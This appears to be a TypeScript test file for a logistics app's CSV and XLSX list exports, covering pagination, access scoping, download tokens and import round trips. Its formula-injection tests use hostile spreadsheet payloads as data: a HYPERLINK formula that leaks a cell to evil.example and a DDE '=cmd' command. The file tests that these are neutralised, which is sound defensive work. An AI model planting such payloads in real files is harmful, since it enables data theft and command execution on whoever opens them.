import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import type { Customer } from '@logistics/shared/contracts/customers';
import { exportRefusedCookie, neutraliseCsvCell, restoreCsvCell } from '@logistics/shared/contracts/exports';
import type { ImportReport } from '@logistics/shared/contracts/imports';
import { columnText } from '@logistics/shared/contracts/list-columns';
import { saleListColumns } from '@logistics/shared/contracts/sales';
import { authMessages, exportTexts } from '@logistics/shared/contracts/messages';
import type { Sale } from '@logistics/shared/contracts/sales';
import { describeOnDatabases, loginAs, type Session } from './helpers.js';
import { demoSessions } from './sessions.js';
import { multipartFile } from './import-files.js';
import { seededCategory, tag } from './document-fixtures.js';

/**
 * A list's export holds the rows the list shows (search, filters, date range, sort, the
 * caller's row scopes), in the columns asked for and in their order, written as the screen writes them; CSV and
 * XLSX alike, read a page at a time (EXPORT_PAGE_SIZE is 2 here, so every export spans many pages); and the
 * download link's token is good for its own list and session only.
 */

const COLUMNS = ['bill_id', 'inventory', 'total_price', 'status', 'sale_date'];

describeOnDatabases(
  'list exports',
  (t) => {
    t.alsoOnPGlite([
      'lets other work run between its pages: the event loop turns while an export is written',
      'writes amounts and dates in a plain CSV as a spreadsheet reads them: no currency sign, ISO dates',
      'writes an XLSX a spreadsheet can sum and sort: amounts as numbers, dates as dates, ids as text',
    ]);
    const { admin, inventoryInCharge: inCharge } = demoSessions(t);

    const get = (url: string, session?: Session) =>
      t.app.inject({ method: 'GET', url, headers: session?.headers ?? {} });

    /** The list's rows for a query, as the table writes them: header and cells of the chosen columns. */
    async function listedAs(session: Session, query: string): Promise<string[][]> {
      const response = await get(`/api/sales?${query}&pageSize=200`, session);
      expect(response.statusCode).toBe(200);
      const { sales, total } = response.json() as { sales: Sale[]; total: number };
      expect(sales).toHaveLength(total);
      const columns = COLUMNS.map((field) => saleListColumns.find((column) => column.field === field)!);
      return [
        columns.map((column) => column.header),
        ...sales.map((sale) => columns.map((c) => columnText(c, sale))),
      ];
    }

    async function csvOf(session: Session, query: string): Promise<string[][]> {
      const response = await get(
        `/api/sales/export?format=csv&values=shown&${query}&columns=${COLUMNS.join(',')}`,
        session,
      );
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(response.headers['content-disposition']).toMatch(
        /^attachment; filename="sales-\d{4}-\d{2}-\d{2}\.csv"$/,
      );
      return parse(response.rawPayload, { bom: true }) as string[][];
    }

    const filtered = 'status=pending,delivered&sort=total_price&order=desc&from=2000-01-01';

    it('writes the filtered, sorted list in the chosen columns, formatted as on screen, as CSV "as shown"', async () => {
      const listed = await listedAs(admin, filtered);
      const file = await csvOf(admin, filtered);
      expect(file).toEqual(listed);
      // More rows than one export page: the pages follow each other without a gap or a repeat.
      expect(listed.length - 1).toBeGreaterThan(2);
      const [header, first] = file;
      expect(header).toEqual(['BILL ID', 'Inventory', 'Total Price', 'Status', 'Sale Date']);
      expect(first?.[2]).toMatch(/^\$[\d,]+\.\d{2}$/);
      expect(first?.[3]).toMatch(/^(Pending|Delivered)$/);
      expect(first?.[4]).toMatch(/^\d{4}-[A-Z][a-z]{2}-\d{2}$/);
    });

    it('lets other work run between its pages: the event loop turns while an export is written', async () => {
      const total = ((await get('/api/sales?pageSize=1', admin)).json() as { total: number }).total;
      const pages = Math.ceil(total / 2);
      expect(pages).toBeGreaterThan(4);
      // Counts the turns of the event loop (a setImmediate each) until the export has answered. On PGlite each
      // page's read resolves as a microtask: without a turn between pages, none of them came before the last.
      let done = false;
      let turns = 0;
      const turn = () => {
        if (done) return;
        turns += 1;
        setImmediate(turn);
      };
      const exported = get('/api/sales/export?format=csv', admin).finally(() => {
        done = true;
      });
      setImmediate(turn);
      expect((await exported).statusCode).toBe(200);
      expect(turns).toBeGreaterThanOrEqual(pages - 1);
    });

    /** The list's own rows (the API's values) for a query. */
    async function listRows(session: Session, query: string): Promise<Sale[]> {
      const response = await get(`/api/sales?${query}&pageSize=200`, session);
      expect(response.statusCode).toBe(200);
      return (response.json() as { sales: Sale[] }).sales;
    }

    it('writes amounts and dates in a plain CSV as a spreadsheet reads them: no currency sign, ISO dates', async () => {
      const response = await get(
        `/api/sales/export?format=csv&${filtered}&columns=bill_id,adjustment,total_price,sale_date`,
        admin,
      );
      expect(response.statusCode).toBe(200);
      const [header, ...rows] = parse(response.rawPayload, { bom: true }) as string[][];
      expect(header).toEqual(['BILL ID', 'Adjustment', 'Total Price', 'Sale Date']);
      const sales = await listRows(admin, filtered);
      const plain = (amount: string) => {
        const [whole, decimals = ''] = Number(amount).toString().split('.');
        return `${whole}.${decimals.padEnd(2, '0')}`;
      };
      expect(rows).toEqual(
        sales.map((sale) => [sale.bill_id, plain(sale.adjustment), plain(sale.total_price), sale.sale_date]),
      );
      for (const [, adjustment, total, date] of rows) {
        expect(adjustment).toMatch(/^-?\d+\.\d{2,3}$/);
        expect(total).toMatch(/^\d+\.\d{2,3}$/);
        expect(date).toMatch(/^\d{4}-\d{2}-\d{2}$/);
      }
    });

    it('writes an XLSX a spreadsheet can sum and sort: amounts as numbers, dates as dates, ids as text', async () => {
      const response = await get(
        `/api/sales/export?format=xlsx&${filtered}&columns=${COLUMNS.join(',')}`,
        admin,
      );
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toBe(
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      );
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
      const sheet = workbook.worksheets[0]!;
      const sales = await listRows(admin, filtered);
      expect(sheet.rowCount).toBe(sales.length + 1);
      expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual([
        'BILL ID',
        'Inventory',
        'Total Price',
        'Status',
        'Sale Date',
      ]);
      // The header row stays in view.
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      // Widths fitted to the content: the BILL ID column as wide as its longest id, at least.
      const longestId = Math.max(...sales.map((sale) => sale.bill_id.length));
      expect(sheet.getColumn(1).width).toBeGreaterThanOrEqual(longestId);

      let sum = 0;
      sales.forEach((sale, index) => {
        const row = sheet.getRow(index + 2);
        const id = row.getCell(1);
        expect([id.type, id.value]).toEqual([ExcelJS.ValueType.String, sale.bill_id]);
        const total = row.getCell(3);
        expect(total.type).toBe(ExcelJS.ValueType.Number);
        expect(total.value).toBe(Number(sale.total_price));
        // Shown as the screen shows it: '$1,572.10'.
        expect(total.numFmt).toBe('"$"#,##0.00#;-"$"#,##0.00#');
        sum += total.value as number;
        const date = row.getCell(5);
        expect(date.type).toBe(ExcelJS.ValueType.Date);
        expect((date.value as Date).toISOString().slice(0, 10)).toBe(sale.sale_date);
        expect(date.numFmt).toBe('yyyy-mmm-dd');
      });
      const expected = sales.reduce((total, sale) => total + Number(sale.total_price), 0);
      expect(sum).toBeCloseTo(expected, 3);
      expect(sum).toBeGreaterThan(0);
    });

    it("holds only the inventory-in-charge's own inventory's sales", async () => {
      const everything = await csvOf(admin, 'from=2000-01-01');
      const theirs = await csvOf(inCharge, 'from=2000-01-01');
      expect(theirs).toEqual(await listedAs(inCharge, 'from=2000-01-01'));
      const inventories = new Set(theirs.slice(1).map((row) => row[1]));
      expect(inventories.size).toBe(1);
      expect(new Set(everything.slice(1).map((row) => row[1])).size).toBeGreaterThan(1);
      expect(theirs.length).toBeLessThan(everything.length);
    });

    it("marks its start with the page's cookie when asked to", async () => {
      const response = await get('/api/sales/export?format=csv&ready=abc123def456', admin);
      expect(response.statusCode).toBe(200);
      expect(response.headers['set-cookie']).toBe(
        'logistics-export-abc123def456=1; Path=/; Max-Age=120; SameSite=Strict',
      );
      const bad = await get('/api/sales/export?format=csv&ready=../x', admin);
      expect(bad.statusCode).toBe(400);
    });

    it("says a refusal at once in the page's refusal cookie, in the answer's words: a refused download starts no file to wait for", async () => {
      const ready = 'abc123def456';
      const refusalCookie = (message: string) =>
        `${exportRefusedCookie(ready)}=${encodeURIComponent(message)}; Path=/; Max-Age=120; SameSite=Strict`;
      const procurement = await loginAs(t.app, 'procurement-manager');
      const refusals: Array<[string, Session | undefined]> = [
        // The list's own refusal of a column, the role's refusal, and a link that is no good.
        [`/api/sales/export?format=csv&columns=bill_id,password&ready=${ready}`, admin],
        [`/api/sales/export?format=csv&ready=${ready}`, procurement],
        [`/api/sales/export?format=csv&download_token=nope&ready=${ready}`, undefined],
      ];
      for (const [url, session] of refusals) {
        const response = await get(url, session);
        expect(response.statusCode).toBeGreaterThanOrEqual(400);
        const { message } = response.json<{ message: string }>();
        expect([url, response.headers['set-cookie']]).toEqual([url, refusalCookie(message)]);
      }
      // No mark, or one that is not a mark: no cookie.
      expect((await get('/api/sales/export?format=pdf', admin)).headers['set-cookie']).toBeUndefined();
      expect(
        (await get('/api/sales/export?format=pdf&ready=../x', admin)).headers['set-cookie'],
      ).toBeUndefined();
    });

    it('refuses an unknown format or column with the reason, and sends no file', async () => {
      const format = await get('/api/sales/export?format=pdf', admin);
      expect([format.statusCode, format.json()]).toEqual([400, { message: exportTexts.formatRequired }]);
      const column = await get('/api/sales/export?format=csv&columns=bill_id,password', admin);
      expect(column.statusCode).toBe(400);
      expect((column.json() as { message: string }).message).toMatch(/^Columns must be among: bill_id, /);
    });

    describe('download tokens', () => {
      async function tokenFor(session: Session, resource: string): Promise<string> {
        const response = await t.app.inject({
          method: 'POST',
          url: `/api/${resource}/export-token`,
          headers: session.headers,
        });
        expect(response.statusCode).toBe(200);
        return (response.json() as { token: string }).token;
      }

      it('opens its own list without the Bearer token, as the session that asked for it', async () => {
        const token = await tokenFor(inCharge, 'sales');
        const response = await get(`/api/sales/export?format=csv&from=2000-01-01&download_token=${token}`);
        expect(response.statusCode).toBe(200);
        const rows = parse(response.rawPayload, { bom: true }) as string[][];
        // The in-charge's scope, not everyone's: the same rows as their own list.
        expect(rows.slice(1).map((row) => row[0])).toEqual(
          (await listedAs(inCharge, 'from=2000-01-01')).slice(1).map((row) => row[0]),
        );
      });

      it('is refused on another list, as a session token, when forged, and after a logout', async () => {
        const session = await loginAs(t.app, 'inventory-manager');
        const token = await tokenFor(session, 'sales');
        const other = await get(`/api/purchases/export?format=csv&download_token=${token}`);
        expect([other.statusCode, other.json()]).toEqual([401, { message: exportTexts.linkInvalid }]);
        const asBearer = await get('/api/sales', {
          ...session,
          headers: { authorization: `Bearer ${token}` },
        });
        expect(asBearer.statusCode).toBe(401);
        const forged = await get(`/api/sales/export?format=csv&download_token=${token.slice(0, -4)}AAAA`);
        expect(forged.statusCode).toBe(401);
        const none = await get('/api/sales/export?format=csv');
        expect([none.statusCode, none.json()]).toEqual([401, { message: authMessages.unauthenticated }]);

        const logout = await t.app.inject({
          method: 'POST',
          url: `/api/auth/logout/${session.user.id}`,
          headers: session.headers,
        });
        expect(logout.statusCode).toBe(200);
        const afterLogout = await get(`/api/sales/export?format=csv&download_token=${token}`);
        expect(afterLogout.statusCode).toBe(401);
      });

      it('is given only to a role that may list', async () => {
        const procurement = await loginAs(t.app, 'procurement-manager');
        const response = await t.app.inject({
          method: 'POST',
          url: '/api/sales/export-token',
          headers: procurement.headers,
        });
        expect(response.statusCode).toBe(403);
      });
    });
  },
  { env: { EXPORT_PAGE_SIZE: '2' } },
);

/**
 * A file a spreadsheet opens safely and computes with, that imports back. A cell that a spreadsheet
 * would run as a formula is written as text; an export parameter the list refuses is refused before the file
 * starts; an export of every importable list imports back (dry run: every row valid) as the same values.
 */
describeOnDatabases('export files', (t) => {
  const { admin } = demoSessions(t);
  let category: string;

  beforeAll(async () => {
    category = (await seededCategory(t)).name;
  });

  const get = (url: string) => t.app.inject({ method: 'GET', url, headers: admin.headers });

  async function sheetOf(bytes: Buffer): Promise<ExcelJS.Worksheet> {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    return workbook.worksheets[0]!;
  }

  describe('formulas', () => {
    const HYPERLINK = '=HYPERLINK("http://evil.example/leak?"&B3,"Open")';
    let customer: Customer;

    beforeAll(async () => {
      const created = await t.app.inject({
        method: 'POST',
        url: '/api/customers',
        headers: admin.headers,
        payload: {
          name: HYPERLINK,
          email: `f${tag()}@formula.test`.toLowerCase(),
          phone: '+1 555 010 0222',
          address: '@SUM(1)',
        },
      });
      expect(created.statusCode).toBe(201);
      customer = (created.json() as { customer: Customer }).customer;
    });

    it('writes a CSV cell a spreadsheet would run as a formula as text, with a leading apostrophe', async () => {
      const response = await get(`/api/customers/export?format=csv&ids=${customer.id}`);
      expect(response.statusCode).toBe(200);
      const [header, row] = parse(response.rawPayload, { bom: true }) as string[][];
      // After the list's columns, what an import needs to update the row: its ID and version.
      expect(header).toEqual(['Name', 'Email', 'Phone', 'Address', 'ID', 'Version']);
      expect(row).toEqual([
        `'${HYPERLINK}`,
        customer.email,
        "'+1 555 010 0222",
        "'@SUM(1)",
        customer.id,
        '1',
      ]);
      // What the apostrophe was added to, exactly: the import's way back.
      expect(row?.slice(0, 4).map(restoreCsvCell)).toEqual([
        HYPERLINK,
        customer.email,
        '+1 555 010 0222',
        '@SUM(1)',
      ]);
    });

    it('neutralises =, +, -, @, tab and carriage return, keeps numbers, and gives every value back', () => {
      const cases: Array<[string, string]> = [
        ['=1+1', "'=1+1"],
        ['+1+cmd', "'+1+cmd"],
        ['-2+3', "'-2+3"],
        ['@SUM(1)', "'@SUM(1)"],
        ['\t=1', "'\t=1"],
        ['\r=1', "'\r=1"],
        ["'=1", "''=1"],
        ['-12.50', '-12.50'],
        ['-$1,234.50', '-$1,234.50'],
        ['+15550100222', '+15550100222'],
        ['Plain text', 'Plain text'],
        ["O'Brien", "O'Brien"],
        ["'quoted", "'quoted"],
      ];
      for (const [value, cell] of cases) {
        expect([value, neutraliseCsvCell(value)]).toEqual([value, cell]);
        expect([value, restoreCsvCell(neutraliseCsvCell(value))]).toEqual([value, value]);
      }
    });

    it('writes such text as a text cell of an XLSX, never a formula', async () => {
      const response = await get(`/api/customers/export?format=xlsx&values=shown&ids=${customer.id}`);
      expect(response.statusCode).toBe(200);
      const sheet = await sheetOf(response.rawPayload);
      const cells = [1, 2, 3, 4].map((column) => sheet.getRow(2).getCell(column));
      expect(cells.map((cell) => [cell.type, cell.value])).toEqual([
        [ExcelJS.ValueType.String, HYPERLINK],
        [ExcelJS.ValueType.String, customer.email],
        [ExcelJS.ValueType.String, '+1 555 010 0222'],
        [ExcelJS.ValueType.String, '@SUM(1)'],
      ]);
      // Not one formula in the sheet.
      sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
    });
  });

  describe('parameters', () => {
    const impossible = ['2026-13-45', '2026-02-30', '0000-00-00'];

    it('refuses an impossible date as the list does (400, its message) before the file starts', async () => {
      for (const date of impossible) {
        for (const key of ['from', 'to']) {
          const list = await get(`/api/sales?${key}=${date}`);
          expect(list.statusCode).toBe(400);
          for (const format of ['csv', 'xlsx']) {
            const file = await get(`/api/sales/export?format=${format}&${key}=${date}`);
            expect({ date, key, format, status: file.statusCode, body: file.json() as unknown }).toEqual({
              date,
              key,
              format,
              status: 400,
              body: list.json(),
            });
            expect(file.headers['content-disposition']).toBeUndefined();
          }
        }
      }
    });

    it('refuses an empty format or values with their message', async () => {
      const format = await get('/api/sales/export?format=');
      expect([format.statusCode, format.json()]).toEqual([400, { message: exportTexts.formatRequired }]);
      const values = await get('/api/sales/export?format=csv&values=');
      expect([values.statusCode, values.json()]).toEqual([400, { message: exportTexts.valuesRequired }]);
    });
  });

  describe('round trips', () => {
    type Importable = 'categories' | 'customers' | 'vendors' | 'products' | 'vehicles';
    const single: Record<Importable, string> = {
      categories: 'category',
      customers: 'customer',
      vendors: 'vendor',
      products: 'product',
      vehicles: 'vehicle',
    };

    /** Two new rows of the resource; with `formulas`, texts that a spreadsheet would run. */
    function rowsOf(resource: Importable, id: string, formulas: boolean): object[] {
      const text = (plain: string, formula: string) => (formulas ? formula : plain);
      return [1, 2].map((n) => {
        const name = `Round ${id} ${n}`;
        const email = `round${id}${n}@trip.test`.toLowerCase();
        const phone = text(`555 010 02${n}2`, `+1 555 010 02${n}2`);
        switch (resource) {
          case 'categories':
            return { name, description: text(`Boxes, ${n}`, `=1+${n}`) };
          case 'customers':
            return {
              name: text(name, `=HYPERLINK("http://evil.example/${id}?"&B${n},"Open")`),
              email,
              phone,
              address: text(`${n} Main St`, '@SUM(1)'),
            };
          case 'vendors':
            return {
              name,
              email,
              phone,
              address: text(`${n} Quay`, '-2+3'),
              description: text('Supplies', '+1+cmd'),
            };
          case 'products':
            return {
              name,
              category,
              price: `${n}234.5`,
              sku: `RT${id}${n}`,
              description: text(`A box\nof ${n}`, "=cmd|'/C calc'!A0"),
              low_stock_threshold: 10 + n,
            };
          case 'vehicles':
            return {
              make: 'Volvo',
              model: `FH${n}`,
              year: 2020,
              color: text('Blue', '@Blue'),
              vin: `VINRT${id}${n}XYZ12345`,
              plate_number: `RT${id}${n}`,
              type: 'truck',
              cargo_capacity: 1000 * n,
              mileage: n === 1 ? null : 120,
              engine_no: text(`ENG${id}${n}12345`, `-ENG${id}${n}1234`),
              chassis_no: `CHS${id}${n}12345`,
            };
        }
      });
    }

    /** A row as the list answers it, without what a new row gets anew (its id, version, times). */
    const comparable = (row: Record<string, unknown>) =>
      Object.fromEntries(
        Object.entries(row).filter(([key]) => !['id', 'version'].includes(key) && !key.endsWith('_at')),
      );

    async function listed(resource: Importable, ids: readonly string[], id: string) {
      const response = await get(`/api/${resource}?q=${encodeURIComponent(id.toLowerCase())}&pageSize=50`);
      expect(response.statusCode).toBe(200);
      const rows = (response.json() as Record<string, Array<Record<string, unknown>>>)[resource] ?? [];
      return rows
        .filter((row) => ids.length === 0 || ids.includes(row.id as string))
        .map(comparable)
        .sort((a, b) => JSON.stringify(a).localeCompare(JSON.stringify(b)));
    }

    /**
     * Creates two rows, exports them, removes them and imports the file: a dry run first (every row valid, no
     * column ignored), then for real, and the list then holds the same values.
     */
    async function roundTrip(resource: Importable, format: 'csv' | 'xlsx', formulas: boolean) {
      const id = tag();
      const ids: string[] = [];
      for (const payload of rowsOf(resource, id, formulas)) {
        const created = await t.app.inject({
          method: 'POST',
          url: `/api/${resource}`,
          headers: admin.headers,
          payload,
        });
        expect([resource, created.statusCode]).toEqual([resource, 201]);
        ids.push(((created.json() as Record<string, { id: string }>)[single[resource]] as { id: string }).id);
      }
      const before = await listed(resource, ids, id);
      expect(before).toHaveLength(2);
      // Every column of the list, the ones hidden by default included.
      const file = await get(`/api/${resource}/export?format=${format}&ids=${ids.join(',')}`);
      expect(file.statusCode).toBe(200);
      await sql`delete from ${sql.table(resource)} where id in (${sql.join(ids)})`.execute(t.app.db);
      const bytes = file.rawPayload;

      const upload = (dryRun: boolean) => {
        const { payload, headers } = multipartFile(bytes, `export.${format}`);
        return t.app.inject({
          method: 'POST',
          url: `/api/${resource}/import${dryRun ? '?dry_run=true' : ''}`,
          headers: { ...admin.headers, ...headers },
          payload,
        });
      };
      const dry = await upload(true);
      const report = dry.json() as ImportReport;
      expect({ resource, format, errors: report.errors, ignored: report.ignored_columns }).toEqual({
        resource,
        format,
        errors: [],
        ignored: [],
      });
      expect([report.total, report.valid]).toEqual([2, 2]);
      expect((await upload(false)).json()).toMatchObject({ imported: 2 });
      expect(await listed(resource, [], id)).toEqual(before);
    }

    const resources: Importable[] = ['categories', 'customers', 'vendors', 'products', 'vehicles'];
    for (const resource of resources) {
      it(`imports back a CSV export of ${resource}, formula-like texts included, as the same values`, async () => {
        await roundTrip(resource, 'csv', true);
      });
      it(`imports back an XLSX export of ${resource}, formula-like texts included, as the same values`, async () => {
        await roundTrip(resource, 'xlsx', true);
      });
    }
  });
});
